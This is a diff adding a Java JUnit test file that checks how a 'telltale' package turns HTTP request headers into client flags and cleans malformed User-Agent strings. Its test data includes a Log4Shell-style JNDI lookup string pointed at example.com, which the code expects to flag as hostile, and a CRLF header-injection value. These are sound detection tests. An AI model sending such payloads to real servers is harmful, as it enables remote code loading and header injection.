@@ -1,0 +1,65 @@
+package telltale.judging;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.Map;
+import java.util.Set;
+import java.util.TreeMap;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import telltale.model.Client;
+import telltale.model.Client.Flag;
+
+class HeadersTest {
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "Sec-Purpose | prefetch;anonymous-client-ip | PREFETCH",
+                "Purpose | Prefetch | PREFETCH",
+                "X-Purpose | preview | PREFETCH",
+                "X-Moz | prefetch | PREFETCH",
+                "Referer | https://mail.example.com/ | REFERER",
+                "Via | 1.1 proxy | VIA",
+                "Accept | image/avif,*/* | ACCEPTS_IMAGES",
+                "Accept-Language | en | ACCEPT_LANGUAGE",
+                "Sec-GPC | 1 | GLOBAL_PRIVACY_CONTROL",
+                "DNT | 1 | DO_NOT_TRACK",
+                "X-Forwarded-For | ${jndi:ldap://example.com/a} | HOSTILE"
+            })
+    void aTellingHeaderIsKeptAsAFlag(String name, String value, Flag flag) {
+        assertEquals(Set.of(flag), client("GET", Map.of(name, value)).flags());
+    }
+
+    @Test
+    void whatTellsNothingIsNotKept() {
+        Map<String, String> headers = Map.of("DNT", "0", "Accept", "*/*", "Sec-Purpose", "x", "Cookie", "${a}");
+        assertEquals(Set.of(), client("GET", headers).flags());
+    }
+
+    @Test
+    void theMethodIsKept() {
+        assertEquals(Set.of(Flag.HEAD), client("HEAD", Map.of()).flags());
+    }
+
+    @Test
+    void whatWasWrongWithAnAgentIsKeptWhenItIsCleaned() {
+        Client damaged = client("GET", Map.of("User-Agent", "Mozilla/5.0\r\n\r\nevil"));
+        assertEquals("Mozilla/5.0evil", damaged.agent());
+        assertTrue(damaged.flags().contains(Flag.DAMAGED));
+        Client padded = client("GET", Map.of("User-Agent", "Mozilla/5.0" + " ".repeat(4_096)));
+        assertEquals("Mozilla/5.0", padded.agent());
+        assertTrue(padded.flags().contains(Flag.OVERSIZED));
+        Client foreign = client("GET", Map.of("User-Agent", "Почта/1.0 \u200bCFNetwork"));
+        assertFalse(foreign.flags().contains(Flag.DAMAGED));
+    }
+
+    private static Client client(String method, Map<String, String> headers) {
+        Map<String, String> byName = new TreeMap<>(String.CASE_INSENSITIVE_ORDER);
+        byName.putAll(headers);
+        return Headers.client(method, byName::get);
+    }
+}
